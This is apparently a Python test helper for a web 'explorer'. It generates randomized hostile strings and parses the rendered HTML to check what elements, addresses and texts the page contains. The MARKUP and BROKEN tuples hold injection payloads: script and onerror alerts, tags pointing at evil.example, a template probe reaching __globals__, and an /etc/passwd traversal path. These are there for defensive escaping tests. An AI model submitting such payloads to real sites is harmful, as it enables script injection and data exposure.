"""Texts that try to become part of the page that shows them, and what a page of the explorer may hold."""

from __future__ import annotations

import random
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Final

MARKUP: Final = (
    "<script>document.title='run'</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><a>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<base href=//evil.example/>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>", "<object data=//evil.example>", "<template>", "<plaintext>",
    "<xmp>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
    "</bdi>", "</p></article></div></main></body></html>", "</textarea>", "</title>", "</svg>", "</script>",
    "</style>", "</option></select>", "<!--", "-->", "<![CDATA[", "]]>", "<!doctype html>", "<?xml ?>",
    "<%", "%>",
)  # fmt: skip
BROKEN: Final = (
    '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", '">', "'>", "`", "\\", "&", "&lt;",
    "&#60;script&#62;",
    "&quot;", "&amp;lt;", "&NewLine;", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "{{ 7*7 }}", "{% raw %}", "{# a #}", "${7*7}", "<%= 7*7 %>", "{{ self.__init__.__globals__ }}",
    "//evil.example/", "../../../etc/passwd", "%3Cscript%3E", "%00", "+ADw-script+AD4-", "\uff1cscript\uff1e",
)  # fmt: skip
CONTROLS: Final = tuple(map(chr, (*range(0x20), *range(0x7F, 0xA0))))
DIRECTIONS: Final = tuple("\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
INVISIBLE: Final = (
    *"\u200b\u200c\u200d\u2060\ufeff\u00ad\u2028\u2029\ufe0f",
    "\U000e0001",
    "\U000e0041",
    "\U000e0100",
)
READABLE: Final = (
    "We deploy on Tuesdays. ", "\u05e9\u05dc\u05d5\u05dd ", "\u0645\u0631\u062d\u0628\u0627 ",
    "\u6771\u4eac ",
    "e\u0301", "\u0301" * 40, "\U0001f600", "a" * 60, "\n", "\r\n", "\t", "\u00a0",
)  # fmt: skip
KINDS: Final = (MARKUP, BROKEN, CONTROLS, DIRECTIONS, INVISIBLE, READABLE)
LONG: Final = 100_000
"""Characters of the longest texts, which are the most that an event may have."""
EVERY: Final = 500
"""One text of so many is a long one."""


def hostile_texts(count: int, seed: int = 7) -> Iterator[str]:
    """`count` different texts of these pieces, every `EVERY`th of 100,000 characters; none is blank."""
    dice = random.Random(seed)
    for number in range(count):
        pieces = (dice.choice(dice.choice(KINDS)) for _ in range(dice.randint(1, 12)))
        text = f"{number} " + "".join(pieces)
        if number % EVERY == EVERY - 1:
            text = (text * (LONG // len(text) + 1))[:LONG]
        yield text


class Page(HTMLParser):
    """What a page holds: the forms of its elements, its addresses, and its texts."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements = set[tuple[str, ...]]()
        """Every tag with the names of its attributes."""
        self.addresses = set[str]()
        self.texts = list[str]()
        """Outside of fields of forms, which send back what they were given."""
        self.declarations = list[str]()
        self._field = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note it."""
        self.elements.add((tag, *sorted(name for name, _ in attrs)))
        self.addresses |= {value or "" for name, value in attrs if name in ("href", "src", "action")}
        self._field |= tag == "textarea"

    def handle_endtag(self, tag: str) -> None:
        """A field ends."""
        self._field &= tag != "textarea"

    def handle_data(self, data: str) -> None:
        """Note it."""
        if not self._field:
            self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        """A page of ours has none."""
        self.declarations.append(data)

    def handle_decl(self, decl: str) -> None:
        """The type of the document alone."""
        self.declarations.append(decl)

    def unknown_decl(self, data: str) -> None:
        """A page of ours has none."""
        self.declarations.append(data)

    def handle_pi(self, data: str) -> None:
        """A page of ours has none."""
        self.declarations.append(data)
